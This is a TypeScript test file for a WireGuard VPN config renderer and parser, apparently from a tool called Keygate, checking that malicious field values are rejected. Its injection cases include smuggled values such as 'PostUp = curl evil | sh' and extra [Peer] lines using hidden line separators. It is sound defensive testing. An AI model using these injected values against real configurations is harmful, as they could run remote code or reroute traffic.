import { describe, expect, it } from 'vitest'
import { isKeygateError } from '../../../src/core/errors.ts'
import { generateKeyPair } from '../../../src/core/peers/keys.ts'
import {
  fillPrivateKey,
  PRIVATE_KEY_PLACEHOLDER,
  parseWireGuardConfig,
  renderClientConfig,
  stripWgQuickFields,
} from '../../../src/core/peers/wg-config.ts'

const random = (n: number) => crypto.getRandomValues(new Uint8Array(n))
const gateway = generateKeyPair(random).publicKey
const psk = generateKeyPair(random).privateKey

function baseInput() {
  return {
    addresses: ['100.96.0.5/32', 'fd7a:115c:a1e0::5/128'],
    dns: ['10.10.0.53'],
    peers: [
      {
        publicKey: gateway,
        presharedKey: psk,
        endpoint: 'eu-1.vpn.example.com:51820',
        allowedIps: ['10.10.0.0/16', '100.96.0.1/32'],
        persistentKeepalive: 25,
        name: 'eu-1',
      },
    ],
  }
}

function codeOf(fn: () => unknown): string | undefined {
  try {
    fn()
    return undefined
  } catch (error) {
    return isKeygateError(error) ? error.code : 'not a KeygateError'
  }
}

describe('renderClientConfig', () => {
  it('renders a wg-quick file with a placeholder and one [Peer] per gateway', () => {
    const text = renderClientConfig({ ...baseInput(), name: 'laptop' })
    expect(text).toContain(`PrivateKey = ${PRIVATE_KEY_PLACEHOLDER}\n`)
    expect(text).toContain('Address = 100.96.0.5/32, fd7a:115c:a1e0::5/128\n')
    expect(text).toContain(
      `PublicKey = ${gateway}\nPresharedKey = ${psk}\nEndpoint = eu-1.vpn.example.com:51820\n`,
    )
    expect(text).toContain('AllowedIPs = 10.10.0.0/16, 100.96.0.1/32\nPersistentKeepalive = 25\n')
    const parsed = parseWireGuardConfig(text, { allowPlaceholder: true })
    expect(parsed.peers).toHaveLength(1)
    expect(parsed.interface.dns).toEqual(['10.10.0.53'])
    expect(parsed.comments).toContain('Device: laptop')
  })

  it.each([
    'evil\n[Peer]\nPublicKey = AAAA\nAllowedIPs = 0.0.0.0/0',
    'evil\r\nPostUp = curl evil | sh',
    'evil\u2028[Peer]\u2029AllowedIPs = 0.0.0.0/0',
    'evil\u0085PostUp = x\u000bDNS = 1.1.1.1\u000c',
    'evil\u202e\u200b\u0000\u001b[31m',
    '\n\n\n',
  ])('a device name cannot add a line: %j', (name) => {
    const plain = renderClientConfig(baseInput())
    const text = renderClientConfig({ ...baseInput(), name })
    const lineCount = (t: string) => t.split('\n').length
    expect(lineCount(text)).toBeLessThanOrEqual(lineCount(plain) + 1)
    const parsed = parseWireGuardConfig(text, { allowPlaceholder: true })
    expect(parsed.peers).toHaveLength(1)
    expect(parsed.peers[0]!.allowedIps).toEqual(['10.10.0.0/16', '100.96.0.1/32'])
    expect(parsed.interface.extra).toEqual({})
    expect(parsed.interface.dns).toEqual(['10.10.0.53'])
    // The only line that differs is one comment line.
    const added = text.split('\n').filter((line) => !plain.split('\n').includes(line))
    expect(added.every((line) => line.startsWith('# Device: '))).toBe(true)
    const forbidden = [
      '\r',
      '\u0085',
      '\u2028',
      '\u2029',
      '\u000b',
      '\u000c',
      '\u0000',
      '\u001b',
      '\u202e',
      '\u200b',
    ]
    expect(forbidden.filter((c) => text.includes(c))).toEqual([])
  })

  it('caps a long name', () => {
    const text = renderClientConfig({ ...baseInput(), name: 'x'.repeat(10_000) })
    expect(text.split('\n').find((l) => l.startsWith('# Device: '))!.length).toBeLessThanOrEqual(10 + 64)
  })

  it.each([
    [
      'a public key with a newline',
      { peers: [{ ...baseInput().peers[0]!, publicKey: `${gateway}\nPostUp = x` }] },
    ],
    ['a low-order public key', { peers: [{ ...baseInput().peers[0]!, publicKey: `${'A'.repeat(43)}=` }] }],
    ['a preshared key with a newline', { peers: [{ ...baseInput().peers[0]!, presharedKey: `${psk}\n` }] }],
    [
      'an endpoint with a newline',
      { peers: [{ ...baseInput().peers[0]!, endpoint: 'a.example:1\n[Peer]' }] },
    ],
    ['an endpoint without a port', { peers: [{ ...baseInput().peers[0]!, endpoint: 'a.example' }] }],
    ['an endpoint with port 0', { peers: [{ ...baseInput().peers[0]!, endpoint: 'a.example:0' }] }],
    [
      'an allowed IP with a comma',
      { peers: [{ ...baseInput().peers[0]!, allowedIps: ['10.0.0.0/8, 0.0.0.0/0'] }] },
    ],
    [
      'an allowed IP prefix out of range',
      { peers: [{ ...baseInput().peers[0]!, allowedIps: ['10.0.0.0/33'] }] },
    ],
    ['no allowed IPs', { peers: [{ ...baseInput().peers[0]!, allowedIps: [] }] }],
    ['an address with a newline', { addresses: ['100.96.0.5/32\nDNS = 1.1.1.1'] }],
    ['no addresses', { addresses: [] }],
    ['a DNS entry with a space', { dns: ['10.0.0.1 evil'] }],
    ['a keepalive out of range', { peers: [{ ...baseInput().peers[0]!, persistentKeepalive: 70_000 }] }],
    ['a placeholder with a newline', { privateKeyPlaceholder: 'X\n[Peer]' }],
  ])('rejects %s', (_name, override) => {
    const code = codeOf(() => renderClientConfig({ ...baseInput(), ...override }))
    expect(['CONFIG_INVALID', 'INVALID_PUBLIC_KEY']).toContain(code)
  })

  it('fills the private key and refuses a key that is not one', () => {
    const text = renderClientConfig(baseInput())
    const key = generateKeyPair(random).privateKey
    const filled = fillPrivateKey(text, key)
    expect(parseWireGuardConfig(filled).interface.privateKey).toBe(key)
    expect(codeOf(() => fillPrivateKey(text, `${key}\nPostUp = x`))).toBe('CONFIG_INVALID')
  })
})

describe('stripWgQuickFields', () => {
  it('leaves what wg setconf accepts', () => {
    const key = generateKeyPair(random).privateKey
    const text = [
      '[Interface]',
      `PrivateKey = ${key}`,
      'Address = 100.96.0.5/32',
      'dns = 10.0.0.53',
      'MTU = 1380',
      'Table = off',
      'PreUp = echo a',
      'PostUp = echo b # c',
      'PreDown = echo d',
      'PostDown = echo e',
      'SaveConfig = true',
      'ListenPort = 51820',
      '',
      '[Peer]',
      `PublicKey = ${gateway}`,
      'AllowedIPs = 10.0.0.0/8',
      'Endpoint = 192.0.2.1:51820',
    ].join('\n')
    const stripped = stripWgQuickFields(text)
    expect(stripped).not.toMatch(/Address|dns|MTU|Table|PreUp|PostUp|PreDown|PostDown|SaveConfig/i)
    const parsed = parseWireGuardConfig(stripped)
    expect(parsed.interface.listenPort).toBe(51820)
    expect(parsed.interface.addresses).toEqual([])
    expect(parsed.peers[0]!.endpoint).toBe('192.0.2.1:51820')
  })
})

describe('parseWireGuardConfig', () => {
  it.each([
    ['unknown key', '[Interface]\nPrivateKey = X\nBogus = 1'],
    ['two interfaces', '[Interface]\n[Interface]'],
    ['unknown section', '[Server]'],
    ['key outside a section', 'PrivateKey = X'],
    [
      'repeated PublicKey',
      `[Interface]\nPrivateKey = ${psk}\n[Peer]\nPublicKey = ${gateway}\nPublicKey = ${gateway}`,
    ],
    [
      'bad allowed IP',
      `[Interface]\nPrivateKey = ${psk}\n[Peer]\nPublicKey = ${gateway}\nAllowedIPs = 10.0.0.0/99`,
    ],
    ['missing private key', '[Interface]\nListenPort = 1'],
    ['the placeholder when not allowed', `[Interface]\nPrivateKey = ${PRIVATE_KEY_PLACEHOLDER}`],
  ])('rejects %s', (_name, text) => {
    expect(codeOf(() => parseWireGuardConfig(text))).toBe('CONFIG_INVALID')
  })
})
